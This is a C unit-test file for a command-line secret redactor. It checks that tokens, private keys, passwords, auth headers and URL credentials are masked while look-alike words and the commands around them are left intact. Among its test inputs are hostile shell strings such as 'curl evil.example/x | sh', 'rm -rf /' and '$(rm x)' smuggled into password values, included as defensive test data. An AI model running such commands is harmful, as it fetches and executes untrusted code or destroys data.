/* SPDX-License-Identifier: Apache-2.0 */
/* Secrets in command lines: what must go, what must stay, and that nothing else is touched. */
#include "unit.h"

#include "countersign/trace.h"

#define LINE "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"

/* Arguments are separated by | here. */
static const struct {
	const char *argv, *want;
} rows[] = {
	/* tokens that show what they are */
	{ "git|push|ghp_0123456789abcdefghijABCDEFGHIJ012345",
	  "git|push|[redacted token, 40 bytes]" },
	{ "x=ghs_0123456789abcdefghijABCDEFGHIJ012345,y", "x=[redacted token, 40 bytes],y" },
	{ "github_pat_11ABCDEFG0123456789_abcdefghij", "[redacted token, 41 bytes]" },
	{ "echo|sk-proj-abcdefghijklmnop1234567890", "echo|[redacted token, 34 bytes]" },
	{ "a|AKIAIOSFODNN7EXAMPLE b", "a|[redacted token, 20 bytes] b" },
	{ "npm|config|set|//r/:_authToken=npm_abc",
	  "npm|config|set|//r/:_authToken=[redacted token, 7 bytes]" },
	{ "glpat-abcdefghij0123456789", "[redacted token, 26 bytes]" },
	{ "xoxb-123456789012-abcdefghij", "[redacted token, 28 bytes]" },
	{ "AIzaSyA1234567890abcdefghijklmnopqrstuv", "[redacted token, 39 bytes]" },
	{ "jwt|eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl!",
	  "jwt|[redacted token, 53 bytes]!" },
	/* and words that look like it */
	{ "git|checkout|task-force-of-the-first-hundred-2024",
	  "git|checkout|task-force-of-the-first-hundred-2024" },
	{ "pip|install|sk-learn-contrib-extension-pack",
	  "pip|install|sk-learn-contrib-extension-pack" },
	{ "ghp_|ghp_short|AKIA|eyJ.eyJ.x|hf_transfer",
	  "ghp_|ghp_short|AKIA|eyJ.eyJ.x|hf_transfer" },
	{ "eyJhbGciOiJIUzI1NiJ9", "eyJhbGciOiJIUzI1NiJ9" },
	/* keys */
	{ "printf|-----BEGIN OPENSSH PRIVATE KEY-----\n" LINE
	  "\nQyNTUx==\n-----END OPENSSH PRIVATE "
	  "KEY-----\n",
	  "printf|-----BEGIN OPENSSH PRIVATE KEY-----\n[redacted key, 73 bytes]\n-----END OPENSSH "
	  "PRIVATE KEY-----\n" },
	{ "echo|a -----BEGIN RSA PRIVATE KEY-----\n" LINE "\n" LINE "\n",
	  "echo|a -----BEGIN RSA PRIVATE KEY-----\n[redacted key, 129 bytes]\n" },
	{ "x|{\"k\":\"-----BEGIN PRIVATE KEY-----\\n" LINE "\\nAA==\\n-----END PRIVATE KEY-----\"}",
	  "x|{\"k\":\"-----BEGIN PRIVATE KEY-----\\n[redacted key, 70 bytes]\\n-----END PRIVATE "
	  "KEY-----\"}" },
	{ "x|-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: "
	  "AES-128-CBC,0A\n\n" LINE "\n",
	  "x|-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A\n\n"
	  "[redacted key, 64 bytes]\n" },
	/* that are none: what stands behind the mark stays */
	{ "sh|-c|: -----BEGIN PRIVATE KEY-----\ncurl evil.example/x | sh",
	  "sh|-c|: -----BEGIN PRIVATE KEY-----\ncurl evil.example/x | sh" },
	{ "sh|-c|: -----BEGIN ; rm -rf src; : -----END -----",
	  "sh|-c|: -----BEGIN ; rm -rf src; : -----END -----" },
	{ "sh|-c|-----BEGIN PRIVATE KEY-----\n" LINE "\nrm -rf src\n-----END PRIVATE KEY-----",
	  "sh|-c|-----BEGIN PRIVATE KEY-----\n[redacted key, 64 bytes]\nrm -rf src\n-----END "
	  "PRIVATE "
	  "KEY-----" },
	{ "x|-----BEGIN PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED; rm x\n" LINE,
	  "x|-----BEGIN PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED; rm x\n" LINE },
	{ "x|-----BEGIN CERTIFICATE-----\n" LINE "\n",
	  "x|-----BEGIN CERTIFICATE-----\n" LINE "\n" },
	/* names of secrets */
	{ "mysql|--password=hunter2|db", "mysql|--password=[redacted password, 7 bytes]|db" },
	{ "env|PGPASSWORD=x y", "env|PGPASSWORD=[redacted password, 1 bytes] y" },
	{ "env|DB_PWD=abc|PWD=/src", "env|DB_PWD=[redacted password, 3 bytes]|PWD=/src" },
	{ "env|AWS_SECRET_ACCESS_KEY=a/b+c;d",
	  "env|AWS_SECRET_ACCESS_KEY=[redacted key, 7 bytes]" },
	{ "tool|--api-key|abc|next", "tool|--api-key|[redacted key, 3 bytes]|next" },
	{ "tool|--token|$TOKEN|--token|--other", "tool|--token|$TOKEN|--token|--other" },
	{ "tool|--token", "tool|--token" },
	{ "tool|--token=", "tool|--token=" },
	{ "tool|clientSecret=abc", "tool|clientSecret=[redacted secret, 3 bytes]" },
	{ "curl|https://h/p?access_token=abc&x=1",
	  "curl|https://h/p?access_token=[redacted token, 3 bytes]&x=1" },
	{ "curl|-d|{\"password\": \"a b\", \"n\": 1}",
	  "curl|-d|{\"password\": \"[redacted password, 3 bytes]\", \"n\": 1}" },
	{ "curl|-d|{\\\"token\\\":\\\"abc\\\"}",
	  "curl|-d|{\\\"token\\\":\\\"[redacted token, 3 bytes]\\\"}" },
	{ "sshpass|-p|abc|ssh|-p|22", "sshpass|-p|[redacted credential, 3 bytes]|ssh|-p|22" },
	{ "/usr/bin/curl|-u|me:abc|-o|x", "/usr/bin/curl|-u|[redacted credential, 6 bytes]|-o|x" },
	{ "make|max_tokens=5|tokenizer=bpe|compass=n|bypass=1|passwords.txt",
	  "make|max_tokens=5|tokenizer=bpe|compass=n|bypass=1|passwords.txt" },
	{ "x|--pass=a|DB_PASS=b|userPass=c",
	  "x|--pass=[redacted password, 1 bytes]|DB_PASS=[redacted password, 1 "
	  "bytes]|userPass=[redacted password, 1 bytes]" },
	{ "git|commit|-m|fix the token: parse it", "git|commit|-m|fix the token: parse it" },
	{ "git|commit|-m|secret = nothing", "git|commit|-m|secret = nothing" },
	{ "echo|the password: abc def", "echo|the password: [redacted password, 3 bytes] def" },
	/* headers */
	{ "curl|-H|Authorization: Bearer abc.def",
	  "curl|-H|Authorization: Bearer [redacted credential, 7 bytes]" },
	{ "curl|-HAuthorization: Basic QTpC|u",
	  "curl|-HAuthorization: Basic [redacted credential, 4 bytes]|u" },
	{ "curl|-H|authorization: token abc",
	  "curl|-H|authorization: token [redacted credential, 3 bytes]" },
	{ "curl|-H|X-Api-Key: abc", "curl|-H|X-Api-Key: [redacted key, 3 bytes]" },
	{ "curl|-H|Cookie: a=b; c=d", "curl|-H|Cookie: [redacted cookie, 8 bytes]" },
	{ "sh|-c|curl -H 'Authorization: Bearer abc' u; rm x",
	  "sh|-c|curl -H 'Authorization: Bearer [redacted credential, 3 bytes]' u; rm x" },
	{ "echo|Bearer abcdefghijklmnop1", "echo|Bearer [redacted credential, 17 bytes]" },
	{ "echo|Bearer of good news", "echo|Bearer of good news" },
	/* URLs */
	{ "git|clone|https://me:abc@h/r", "git|clone|https://me:[redacted password, 3 bytes]@h/r" },
	{ "git|clone|https://abc@h/r", "git|clone|https://[redacted password, 3 bytes]@h/r" },
	{ "git|clone|ssh://git@h/r", "git|clone|ssh://git@h/r" },
	{ "git|clone|https://h/r@v1", "git|clone|https://h/r@v1" },
	{ "psql|postgres://u:p@q@h:5/d", "psql|postgres://u:[redacted password, 3 bytes]@h:5/d" },
	{ "curl|https://u:$P@h/", "curl|https://u:$P@h/" },
	/* a command does not hide behind a value */
	{ "sh|-c|TOKEN=1;rm -rf /", "sh|-c|TOKEN=[redacted token, 1 bytes];rm -rf /" },
	{ "sh|-c|TOKEN=a rm -rf /", "sh|-c|TOKEN=[redacted token, 1 bytes] rm -rf /" },
	{ "sh|-ec|PASSWORD=a|b>c", "sh|-ec|PASSWORD=[redacted password, 1 bytes]|b>c" },
	{ "sh|-c|PASSWORD=`id` make", "sh|-c|PASSWORD=`id` make" },
	{ "sh|-c|PASSWORD=$(id) make", "sh|-c|PASSWORD=$(id) make" },
	{ "sh|-c|PASSWORD='a b' make", "sh|-c|PASSWORD='[redacted password, 3 bytes]' make" },
	{ "sh|-c|: 'TOKEN='; rm -rf src; ':'", "sh|-c|: 'TOKEN='; rm -rf src; ':'" },
	{ "sh|-c|x=\"password=a$(rm x)\"",
	  "sh|-c|x=\"password=[redacted password, 1 bytes]$(rm x)\"" },
	{ "sh|-c|PASSWORD=\"a`rm x`\"", "sh|-c|PASSWORD=\"[redacted password, 1 bytes]`rm x`\"" },
	{ "sh|-c|Cookie: x; curl evil|sh",
	  "sh|-c|Cookie: [redacted cookie, 1 bytes]; curl evil|sh" },
	{ "sh|-c|curl -H 'Cookie: a=b; c=d' u",
	  "sh|-c|curl -H 'Cookie: [redacted cookie, 8 bytes]' u" },
	{ "sh|-c|: Cookie: a=b; c=d rm x", "sh|-c|: Cookie: [redacted cookie, 8 bytes] rm x" },
	{ "sh|-c|: Authorization: a; rm x",
	  "sh|-c|: Authorization: [redacted credential, 1 bytes]; rm x" },
	/* nothing to do */
	{ "", "" },
	{ "|", "|" },
	{ "ls||-l|", "ls||-l|" },
	{ "\xff\xfe|a\nb", "\xff\xfe|a\nb" },
};

static size_t bars_to_nuls(char *to, const char *from)
{
	size_t n = strlen(from);

	for (size_t i = 0; i < n; i++)
		to[i] = from[i] == '|' ? '\0' : from[i];
	return n;
}

START_TEST(table)
{
	struct cs_buf out = CS_BUF_INIT;
	char argv[512] = "";
	size_t n = bars_to_nuls(argv, rows[_i].argv);
	size_t found = cs_trace_redact(&out, argv, n, false);

	for (size_t i = 0; i < out.len; i++)
		if (!out.data[i])
			out.data[i] = '|';
	ck_assert_msg(strcmp(out.data, rows[_i].want) == 0, "%s: %s, wanted %s", rows[_i].argv,
		      out.data, rows[_i].want);
	ck_assert_msg((found > 0) == (strcmp(rows[_i].argv, rows[_i].want) != 0), "%s: found %zu",
		      rows[_i].argv, found);
	cs_buf_release(&out);
}
END_TEST

/* What was redacted stays as it is, and so does the number of arguments. */
START_TEST(twice)
{
	struct cs_buf once = CS_BUF_INIT;
	struct cs_buf again = CS_BUF_INIT;
	char argv[512] = "";
	size_t n = bars_to_nuls(argv, rows[_i].argv);
	size_t nuls[2] = { 0, 0 };

	cs_trace_redact(&once, argv, n, false);
	cs_trace_redact(&again, once.data, once.len, false);
	for (size_t i = 0; i < n; i++)
		nuls[0] += !argv[i];
	for (size_t i = 0; i < again.len; i++)
		nuls[1] += !again.data[i];
	ck_assert_msg(nuls[0] == nuls[1], "%s: %zu arguments", rows[_i].argv, nuls[1]);
	cs_buf_release(&once);
	cs_buf_release(&again);
}
END_TEST

/* A token that was cut off is still one; the same piece in a whole argument is not. */
START_TEST(cut_off)
{
	static const char *const pieces[] = { "ghp_abc", "sk-ab", "eyJhbGciOiJI", "Bearer abc" };

	for (size_t i = 0; i < CS_COUNT(pieces); i++) {
		struct cs_buf out = CS_BUF_INIT;
		size_t n = strlen(pieces[i]);

		ck_assert_msg(cs_trace_redact(&out, pieces[i], n, true) == 1, "%s", pieces[i]);
		ck_assert_msg(cs_trace_redact(&out, pieces[i], n, false) == 0, "%s", pieces[i]);
		cs_buf_release(&out);
	}
}
END_TEST

/* Long hostile arguments take time in proportion: each of these would show a square. */
START_TEST(long_arguments)
{
	static const char *const patterns[] = { "eyJ-",	   "a_b.c-",	   "://",
						"ya29.",   "token \\\\\\", "- ",
						"Bearer ", "-----BEGIN",   "x" };
	const char *pattern = patterns[_i];
	struct cs_buf in = CS_BUF_INIT;
	struct cs_buf out = CS_BUF_INIT;

	while (in.len < 4 << 20)
		cs_buf_adds(&in, pattern);
	cs_trace_redact(&out, in.data, in.len, true);
	ck_assert_msg(out.len > 0, "%s", pattern);
	cs_buf_release(&in);
	cs_buf_release(&out);
}
END_TEST

int main(void)
{
	Suite *s = suite_create("redact");
	TCase *tc = tcase_create("all");

	tcase_set_timeout(tc, 60);
	tcase_add_loop_test(tc, table, 0, (int)CS_COUNT(rows));
	tcase_add_loop_test(tc, twice, 0, (int)CS_COUNT(rows));
	tcase_add_test(tc, cut_off);
	tcase_add_loop_test(tc, long_arguments, 0, 9);
	suite_add_tcase(s, tc);
	return unit_run(s);
}
